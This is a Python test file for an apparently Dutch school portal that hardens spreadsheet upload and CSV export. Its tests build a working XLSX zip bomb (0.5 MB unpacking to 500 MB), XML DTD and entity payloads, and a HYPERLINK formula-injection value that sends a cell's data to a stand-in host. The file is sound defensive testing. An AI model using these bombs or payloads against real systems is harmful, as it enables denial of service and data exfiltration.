"""Hostile spreadsheets in, harmless spreadsheets out (issue 15, findings 1, 2 and 6; ADR 0055).

The hostile files are made here, in the test: nothing large is stored in the repository.
"""

import csv
import io
import struct
import time
import tracemalloc
import zipfile
import zlib

import openpyxl.xml
import pytest
from openpyxl import Workbook

from openinburgering.core.tabellen import (
    Grenzen,
    TabelOngeldig,
    cel_onschadelijk,
    csv_tekst,
    lees_tabel,
)

MB = 1024 * 1024

# The smallest XLSX openpyxl opens: content types, the package and workbook relations, one sheet.
_DELEN = {
    "[Content_Types].xml": (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/xl/workbook.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
        '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
        "</Types>"
    ),
    "_rels/.rels": (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>'
    ),
    "xl/workbook.xml": (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
        'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        '<sheets><sheet name="uren" sheetId="1" r:id="rId1"/></sheets></workbook>'
    ),
    "xl/_rels/workbook.xml.rels": (
        '<?xml version="1.0" encoding="UTF-8"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
    ),
}
_XML_KOP = b'<?xml version="1.0" encoding="UTF-8"?>'
_BLAD_BEGIN = _XML_KOP + (
    b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>'
)
_BLAD_EINDE = b"</t></is></c></row></sheetData></worksheet>"


def _deflate(stukken, herhaal: int = 1) -> tuple[bytes, int, int]:
    """A raw deflate stream of ``begin + midden * herhaal + einde`` and its CRC and size.

    The middle is compressed once: after a full flush deflate starts afresh, so its output for
    the same input is the same bytes, and repeating them is a valid stream. That makes a 500 MB
    cell in a second instead of in fifteen.
    """
    begin, midden, einde = stukken
    pakker = zlib.compressobj(9, zlib.DEFLATED, -15)
    kop = pakker.compress(begin) + pakker.flush(zlib.Z_FULL_FLUSH)
    blok = pakker.compress(midden) + pakker.flush(zlib.Z_FULL_FLUSH)
    staart = pakker.compress(einde) + pakker.flush()
    crc = zlib.crc32(begin)
    for _ in range(herhaal):
        crc = zlib.crc32(midden, crc)
    crc = zlib.crc32(einde, crc)
    return kop + blok * herhaal + staart, crc, len(begin) + len(midden) * herhaal + len(einde)


def xlsx(celtekst: bytes, herhaal: int = 1, *, gelogen_grootte: int | None = None) -> bytes:
    """An XLSX whose one cell holds ``celtekst * herhaal``, written by hand as a zip so that the
    sheet's deflate stream can be built as :func:`_deflate` does. ``gelogen_grootte``: the size
    the zip states for the sheet instead of the real one."""
    delen = {naam: _deflate((tekst.encode(), b"", b"")) for naam, tekst in _DELEN.items()}
    gepakt, crc, grootte = _deflate((_BLAD_BEGIN, celtekst, _BLAD_EINDE), herhaal)
    delen["xl/worksheets/sheet1.xml"] = (gepakt, crc, gelogen_grootte or grootte)
    uit, centraal = io.BytesIO(), []
    for naam, (gepakt, crc, grootte) in delen.items():
        positie, n = uit.tell(), naam.encode()
        kop = (0x04034B50, 20, 0, 8, 0, 0, crc, len(gepakt), grootte, len(n), 0)
        uit.write(struct.pack("<IHHHHHIIIHH", *kop) + n + gepakt)
        ingang = (0x02014B50, 20, 20, 0, 8, 0, 0, crc, len(gepakt), grootte, len(n), 0, 0, 0, 0)
        centraal.append(struct.pack("<IHHHHHHIIIHHHHHII", *ingang, 0, positie) + n)
    begin, lijst = uit.tell(), b"".join(centraal)
    uit.write(lijst)
    uit.write(
        struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(delen), len(delen), len(lijst), begin, 0)
    )
    return uit.getvalue()


def _met_blad(inhoud: bytes, nieuw_blad: bytes) -> bytes:
    """The same XLSX with its first sheet's XML replaced."""
    uit = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(inhoud)) as oud,
        zipfile.ZipFile(uit, "w", zipfile.ZIP_DEFLATED) as nieuw,
    ):
        for lid in oud.infolist():
            data = nieuw_blad if lid.filename == "xl/worksheets/sheet1.xml" else oud.read(lid)
            nieuw.writestr(lid.filename, data)
    return uit.getvalue()


def _gewoon_xlsx() -> bytes:
    boek = Workbook()
    boek.active.append(["kenmerk", "uren"])
    boek.active.append(["VW-ABC234", 12])
    uit = io.BytesIO()
    boek.save(uit)
    return uit.getvalue()


# --- finding 1: a spreadsheet can stall the site -----------------------------------------------


def test_a_half_mb_xlsx_holding_a_500_mb_cell_is_refused_quickly_with_bounded_memory():
    """Finding 1 (issue 15): a 0.51 MB XLSX with one 500 MB cell kept a worker busy until it was
    killed. The zip's stated sizes refuse it before anything is unpacked."""
    bom = xlsx(b"A" * MB, herhaal=500)
    assert len(bom) < 0.6 * MB  # what the school portal's 2 MB limit let through
    with zipfile.ZipFile(io.BytesIO(bom)) as archief:  # a real zip that unpacks to 500 MB
        assert archief.getinfo("xl/worksheets/sheet1.xml").file_size > 500 * MB

    tracemalloc.start()
    begin = time.monotonic()
    with pytest.raises(TabelOngeldig) as fout:
        lees_tabel("uren.xlsx", bom)
    duur = time.monotonic() - begin
    _nu, piek = tracemalloc.get_traced_memory()
    tracemalloc.stop()

    assert "uitgepakt groter dan 10 MB" in fout.value.message
    assert duur < 1.0
    assert piek < 10 * MB


def test_a_zip_that_understates_its_unpacked_size_is_refused_with_bounded_memory():
    """Finding 1: the same bomb with a sheet that claims 2 KB. Python's zipfile unpacks a member
    no further than its stated size and then fails its CRC, so the lie costs nothing."""
    bom = xlsx(b"A" * MB, herhaal=500, gelogen_grootte=2048)
    tracemalloc.start()
    begin = time.monotonic()
    with pytest.raises(TabelOngeldig, match="kan niet gelezen worden"):
        lees_tabel("uren.xlsx", bom)
    duur = time.monotonic() - begin
    _nu, piek = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert duur < 2.0
    assert piek < 10 * MB


def test_a_cell_longer_than_the_limit_is_refused_even_when_the_file_is_small_enough():
    """Finding 1: the length of one cell is bounded, in XLSX and CSV alike."""
    lang = xlsx(b"x" * 5000)
    with pytest.raises(TabelOngeldig, match="langer dan 1000 tekens"):
        lees_tabel("uren.xlsx", lang)
    with pytest.raises(TabelOngeldig, match="langer dan 1000 tekens"):
        lees_tabel("uren.csv", b"kenmerk;toelichting\nVW-1;" + b"x" * 5000)


def test_rows_columns_and_cells_are_bounded():
    """Finding 1: the number of rows, columns and cells is bounded."""
    grenzen = Grenzen(max_rijen=10, max_kolommen=5, max_cellen=30)
    with pytest.raises(TabelOngeldig, match="meer dan 10 regels"):
        lees_tabel("uren.csv", b"a\n" * 12, grenzen)
    with pytest.raises(TabelOngeldig, match="meer dan 5 kolommen"):
        lees_tabel("uren.csv", b"a;b;c;d;e;f\n", grenzen)
    with pytest.raises(TabelOngeldig, match="meer dan 30 cellen"):
        lees_tabel("uren.csv", b"a;b;c;d;e\n" * 7, grenzen)


def test_a_sheet_that_claims_a_million_rows_and_columns_stops_at_the_limits():
    """Finding 1: the sheet's stated dimension (A1:XFD1048576) and a cell in its last row do not
    make openpyxl pad out millions of empty rows and cells: reading stops at the row limit."""
    blad = (
        b'<?xml version="1.0" encoding="UTF-8"?>'
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<dimension ref="A1:XFD1048576"/><sheetData>'
        b'<row r="1"><c r="A1" t="inlineStr"><is><t>kenmerk</t></is></c></row>'
        b'<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
        b"</sheetData></worksheet>"
    )
    begin = time.monotonic()
    with pytest.raises(TabelOngeldig, match="meer dan 5000 regels"):
        lees_tabel("uren.xlsx", _met_blad(_gewoon_xlsx(), blad))
    assert time.monotonic() - begin < 5


def test_the_time_spent_reading_is_bounded():
    """Finding 1: reading stops at the time limit, whatever the file."""
    with pytest.raises(TabelOngeldig, match="duurde te lang"):
        lees_tabel("uren.csv", b"a;b\n" * 100, Grenzen(max_seconden=-1))


# --- finding 6: malformed files gave a 500 ---------------------------------------------------------


def test_openpyxl_parses_with_defusedxml():
    """Finding 1 and 6: openpyxl uses defusedxml when it is installed; it must be installed."""
    assert openpyxl.xml.DEFUSEDXML is True


@pytest.mark.parametrize(
    "dtd",
    [
        b'<!DOCTYPE worksheet [<!ENTITY boem "boem">]>',
        b'<!DOCTYPE worksheet SYSTEM "http://voorbeeld.example/x.dtd">',
        b"<!DOCTYPE worksheet>",
    ],
)
def test_an_xlsx_with_a_dtd_is_refused_with_a_dutch_message(dtd):
    """Finding 6 (issue 15): an XLSX with a DTD gave a 500; now a clear Dutch refusal."""
    met_dtd = _met_blad(
        _gewoon_xlsx(),
        _XML_KOP + dtd + _BLAD_BEGIN[len(_XML_KOP) :] + b"x" + _BLAD_EINDE,
    )
    with pytest.raises(TabelOngeldig, match="DTD of entiteiten"):
        lees_tabel("uren.xlsx", met_dtd)


def test_entities_hidden_from_the_scan_by_another_encoding_are_refused_by_defusedxml():
    """Finding 6: a DTD in UTF-16 passes our byte scan; defusedxml still refuses its entity."""
    tekst = (
        '<?xml version="1.0" encoding="UTF-16"?>'
        '<!DOCTYPE worksheet [<!ENTITY boem "boem">]>'
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&boem;</t></is></c></row>'
        "</sheetData></worksheet>"
    )
    met_dtd = _met_blad(_gewoon_xlsx(), tekst.encode("utf-16"))
    with pytest.raises(TabelOngeldig, match="DTD of entiteiten|kan niet gelezen worden"):
        lees_tabel("uren.xlsx", met_dtd)


@pytest.mark.parametrize(
    ("inhoud", "melding"),
    [
        (b"kenmerk;uren\nVW-1;1\rx;2\n", "los regeleinde"),
        (b"kenmerk;uren\nVW-1;" + b"x" * (129 * 1024) + b"\n", "langer dan 1000 tekens"),
        (b'kenmerk;uren\nVW-1;"' + b"x" * (129 * 1024) + b'"\n', "langer dan 1000 tekens"),
    ],
    ids=["bare-cr", "field-over-128-kib", "quoted-field-over-128-kib"],
)
def test_a_csv_with_a_bare_cr_or_a_field_over_128_kib_is_refused_in_dutch(inhoud, melding):
    """Finding 6 (issue 15): these raised csv.Error, a 500; now a clear Dutch refusal."""
    with pytest.raises(TabelOngeldig, match=melding):
        lees_tabel("uren.csv", inhoud)


def test_a_normal_xlsx_and_csv_are_read():
    assert lees_tabel("uren.xlsx", _gewoon_xlsx()) == [["kenmerk", "uren"], ["VW-ABC234", 12]]
    assert lees_tabel("uren.csv", b"kenmerk;uren\r\nVW-1;2\r\n") == [
        ["kenmerk", "uren"],
        ["VW-1", "2"],
    ]


# --- finding 2: formula injection in exports -------------------------------------------------------


@pytest.mark.parametrize(
    "waarde",
    ['=HYPERLINK("http://voorbeeld.example/?x="&B3,"klik")', "+31 6 1234", "-2+3", "@SUM(A1)"]
    + ["\tverborgen", "\rverborgen"],
)
def test_a_text_cell_that_starts_a_formula_gets_a_leading_apostrophe(waarde):
    """Finding 2 (issue 15): names starting with =, +, -, @, tab or CR went into the CSV as
    formulas; every export writes its cells through this helper."""
    assert cel_onschadelijk(waarde) == "'" + waarde
    regels = list(csv.reader(io.StringIO(csv_tekst(["kop"], [[waarde]])), delimiter=";"))
    assert regels[1] == ["'" + waarde]


@pytest.mark.parametrize("waarde", ["Amira", "VW-ABC234", "", 12, -3, None])
def test_other_cells_are_left_as_they_are(waarde):
    assert cel_onschadelijk(waarde) == waarde
